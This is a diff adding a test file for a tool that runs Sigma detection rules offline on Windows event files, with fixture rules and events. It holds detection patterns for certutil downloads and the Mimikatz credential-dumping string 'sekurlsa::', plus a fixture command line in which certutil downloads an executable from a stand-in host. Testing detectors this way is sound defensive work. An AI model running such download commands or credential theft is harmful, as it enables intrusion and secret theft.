@@ -1,0 +1,123 @@
+// `secai detect test`: Sigma rules as code, run offline on event files (issue 11).
+import { execFile } from 'node:child_process';
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { promisify } from 'node:util';
+import { test } from 'uvu';
+import * as assert from 'uvu/assert';
+import { BIN } from './harness.js';
+
+const dir = mkdtempSync(join(tmpdir(), 'secai-detect-'));
+const rules = join(dir, 'rules');
+mkdirSync(join(rules, 'windows'), { recursive: true });
+const rule = (id: string, title: string, logsource: string, detection: string) =>
+  `title: ${title}\nid: ${id}\nlevel: high\nauthor: Someone\nlogsource:\n${logsource}\ndetection:\n${detection}\n`;
+const PROCESS = '  product: windows\n  category: process_creation';
+writeFileSync(
+  join(rules, 'windows', 'certutil.yml'),
+  rule(
+    '11111111-0000-0000-0000-000000000001',
+    'Certutil Download',
+    PROCESS,
+    "  s:\n    Image|endswith: '\\certutil.exe'\n    CommandLine|contains: 'urlcache'\n  condition: s",
+  ),
+);
+writeFileSync(
+  join(rules, 'windows', 'mimikatz.yml'),
+  rule('11111111-0000-0000-0000-000000000002', 'Mimikatz', PROCESS, "  s:\n    CommandLine|contains: 'sekurlsa::'\n  condition: s"),
+);
+writeFileSync(
+  join(rules, 'linux.yaml'),
+  rule(
+    '11111111-0000-0000-0000-000000000003',
+    'Linux Thing',
+    '  product: linux\n  service: auditd',
+    '  s:\n    type: EXECVE\n  condition: s',
+  ),
+);
+const sysmon = (commandLine: string, image: string) => ({
+  Event: {
+    System: {
+      Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } },
+      EventID: 1,
+      Channel: 'Microsoft-Windows-Sysmon/Operational',
+      Computer: 'ws1',
+      TimeCreated: { '#attributes': { SystemTime: '2026-12-03T10:00:00Z' } },
+    },
+    EventData: { Image: image, CommandLine: commandLine },
+  },
+});
+const ndjson = join(dir, 'events.ndjson');
+writeFileSync(
+  ndjson,
+  `${[sysmon('notepad.exe a.txt', 'C:\\Windows\\notepad.exe'), sysmon('certutil -urlcache -f http://x/a.exe', 'C:\\Windows\\System32\\certutil.exe')].map((e) => JSON.stringify(e)).join('\n')}\n`,
+);
+const pretty = join(dir, 'evtx.json');
+writeFileSync(
+  pretty,
+  `Record 1\n${JSON.stringify(sysmon('certutil.exe -urlcache x', 'C:\\Windows\\System32\\CERTUTIL.EXE'), null, 2)}\nRecord 2\n${JSON.stringify(sysmon('ping', 'C:\\ping.exe'), null, 2)}\n`,
+);
+
+async function run(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
+  try {
+    const { stdout, stderr } = await promisify(execFile)(process.execPath, [BIN, 'detect', 'test', ...args], {
+      env: { ...process.env, NO_COLOR: '1' },
+    });
+    return { code: 0, stdout, stderr };
+  } catch (err) {
+    return err as { code: number; stdout: string; stderr: string };
+  }
+}
+test.after(() => rmSync(dir, { recursive: true, force: true }));
+
+test('the rules of a folder run on an NDJSON file: the rules that fired, their hits and first event; what could not run, and why', async () => {
+  const res = await run([rules, '--events', ndjson]);
+  assert.is(res.code, 0, res.stderr);
+  assert.equal(res.stdout.trim().split('\n'), [`high\t1\tCertutil Download\t${ndjson}:2\t11111111-0000-0000-0000-000000000001`]);
+  assert.match(res.stderr, /^2 rules run, 1 not run \(1 × logsource: only Windows event logs are mapped/);
+  assert.match(res.stderr, /; 2 events; 1 hits by 1 rule\n$/);
+});
+
+test('JSON objects written one after another (evtx_dump) are events, each at the line it starts on', async () => {
+  const res = await run([join(rules, 'windows'), '--events', pretty, '--json']);
+  assert.is(res.code, 0, res.stderr);
+  const out = JSON.parse(res.stdout);
+  assert.is(out.events, 2);
+  assert.equal(out.hits[0].events, [{ file: pretty, line: 2 }]);
+  assert.equal([out.hits[0].author, out.hits[0].level, out.refused], ['Someone', 'high', []]);
+});
+
+test('--expect and --expect-silent make it a test: exit 1 and why when a rule does not do as expected', async () => {
+  const ok = await run([rules, '--events', ndjson, '--expect', '11111111-0000-0000-0000-000000000001', '--expect-silent', 'Mimikatz']);
+  assert.is(ok.code, 0, ok.stderr);
+  const silent = await run([rules, '--events', ndjson, '--expect', 'Mimikatz']);
+  assert.is(silent.code, 1);
+  assert.match(silent.stderr, /✗ Mimikatz was expected to fire and did not\n/);
+  const fired = await run([rules, '--events', ndjson, '--expect-silent', join(rules, 'windows', 'certutil.yml'), '--json']);
+  assert.is(fired.code, 1);
+  assert.equal(JSON.parse(fired.stdout).expectations, [
+    {
+      rule: join(rules, 'windows', 'certutil.yml'),
+      expect: 'silent',
+      hits: 1,
+      ok: false,
+      message: `${join(rules, 'windows', 'certutil.yml')} was expected to stay silent and fired 1 times`,
+    },
+  ]);
+  const unknown = await run([rules, '--events', ndjson, '--expect', 'Linux Thing', '--expect', 'nothing']);
+  assert.is(unknown.code, 1);
+  assert.match(unknown.stderr, /✗ Linux Thing: not run: logsource/);
+  assert.match(unknown.stderr, /✗ nothing: no rule given has this id, title or file/);
+});
+
+test('a rules path or an events file that is not there: exit 2 with the file named', async () => {
+  const noRules = await run([join(dir, 'missing'), '--events', ndjson]);
+  assert.is(noRules.code, 2);
+  assert.match(noRules.stderr, /no such file: .*missing/);
+  const noEvents = await run([rules, '--events', join(dir, 'nope.json')]);
+  assert.is(noEvents.code, 2);
+  assert.match(noEvents.stderr, /no such file: .*nope\.json/);
+});
+
+test.run();
